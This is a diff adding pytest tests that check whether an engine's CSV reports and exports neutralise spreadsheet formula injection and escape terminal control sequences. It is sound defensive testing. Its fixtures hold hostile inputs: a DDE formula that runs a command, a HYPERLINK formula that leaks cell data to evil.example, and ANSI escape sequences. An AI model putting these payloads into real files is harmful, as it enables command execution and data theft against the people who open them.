@@ -13,6 +13,7 @@ import math
 import os
 import random
 import statistics
+import sys
 import tracemalloc
 from bisect import bisect_right
 from collections import Counter
@@ -813,3 +814,123 @@ async def test_views_answer_in_under_a_second_on_a_million_messages(
         timings[name] = round(plan["Execution Time"])
     print("execution ms at 1M messages:", timings)
     assert all(ms < 1000 for ms in timings.values()), timings
+
+
+# --- hostile text from providers and webhooks (issue 18, break 11) --------------------------
+
+FORMULA_CODE = "=cmd|' /C calc'!A0"
+FORMULA_DETAIL = '+HYPERLINK("http://evil.example/?leak="&A1,"click")'
+ANSI = "\x1b]0;owned\x07\x1b[31mred\x9b2J"
+
+
+@pytest.fixture
+async def hostile(conn: asyncpg.Connection, world: World) -> World:
+    """Winter's first five messages failed with a provider's formula code, detail and an
+    id full of escapes; the next three with a detail full of escapes."""
+    failed = (
+        "UPDATE messages SET status = 'failed', failed_at = sent_at, error_code = $2,"
+        " error_detail = $3, provider_message_id = $4 || id"
+        " WHERE id IN (SELECT id FROM messages WHERE run_id = $1 ORDER BY id OFFSET $5 LIMIT $6)"
+    )
+    await conn.execute(failed, world.winter, FORMULA_CODE, FORMULA_DETAIL, ANSI, 0, 5)
+    await conn.execute(failed, world.winter, "X1", ANSI, "pm-x", 5, 3)
+    return world
+
+
+def engine_cli(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], url: str, *args: str
+) -> str:
+    """``engine ARGS`` as typed, on the test's database: its stdout (it must exit 0)."""
+    from engine import cli
+
+    monkeypatch.setenv("DATABASE_URL", url)
+    monkeypatch.delenv("ENGINE_CONFIG", raising=False)
+    code = cli.main(list(args))
+    out, err = capsys.readouterr()
+    assert (code, err) == (0, "")
+    return out
+
+
+def failure_cells(text: str) -> list[tuple[str, str]]:
+    """(error_code, sample_detail) of the failures block of ``report --format csv``."""
+    failures = csv.DictReader(io.StringIO(text.split("\n\n")[2]))
+    return [(f["error_code"], f["sample_detail"]) for f in failures]
+
+
+def test_report_csv_neutralises_formulas_unless_raw(
+    hostile: World,
+    database_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    text = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", "csv")
+    assert set(failure_cells(text)) == {("'" + FORMULA_CODE, "'" + FORMULA_DETAIL), ("X1", ANSI)}
+    summary = next(csv.DictReader(io.StringIO(text.split("\n\n")[0])))
+    assert 0 < Decimal(summary["delivery_rate"]) < 1  # numbers are never prefixed
+    assert Decimal(summary["cost"]) > 0
+
+    raw = engine_cli(
+        monkeypatch, capsys, database_url, "report", "winter", "--format", "csv", "--raw"
+    )
+    assert set(failure_cells(raw)) == {(FORMULA_CODE, FORMULA_DETAIL), ("X1", ANSI)}
+
+
+def test_export_neutralises_formulas_unless_raw(
+    hostile: World,
+    database_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "w.csv")
+    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "r.csv", "--raw")
+    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "m.csv", "--masked")
+    for name, prefix in (("w.csv", "'"), ("r.csv", ""), ("m.csv", "'")):
+        with (tmp_path / name).open(newline="") as stream:
+            rows = list(csv.DictReader(stream))
+        formula = [r for r in rows if r["error_code"].endswith(FORMULA_CODE)]
+        assert len(formula) == 5, name
+        assert {(r["error_code"], r["error_detail"]) for r in formula} == {
+            (prefix + FORMULA_CODE, prefix + FORMULA_DETAIL)
+        }, name
+        assert all(r["provider_message_id"].startswith(ANSI) for r in formula), name
+        assert all(r["phone_masked"].startswith("+") for r in rows), name  # ours, as it is
+        assert all(r.get("phone", "+").startswith("+") for r in rows), name
+        assert all(Decimal(r["cost"]) > 0 for r in rows), name
+
+
+def test_report_table_shows_control_characters_as_escapes(
+    hostile: World,
+    database_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    text = engine_cli(monkeypatch, capsys, database_url, "report", "winter")
+    assert FORMULA_CODE in text  # a table is not a spreadsheet: formulas shown as they are
+    assert not any(ch in text for ch in "\x1b\x07\x9b")
+    assert "\\x1b]0;owned\\x07\\x1b[31mred\\x9b2J" in text
+
+    raw = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--raw")
+    assert "\x1b" not in raw  # --raw is about CSV cells, never about the terminal
+
+
+def test_csv_to_a_terminal_escapes_control_characters_but_to_a_pipe_keeps_them(
+    hostile: World,
+    database_url: str,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    piped = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", "csv")
+    assert ANSI in piped  # data for a program: exact (a formula prefix aside)
+
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    for fmt in ("csv", "json"):
+        shown = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", fmt)
+        assert "\x1b" not in shown and "\x9b" not in shown, fmt
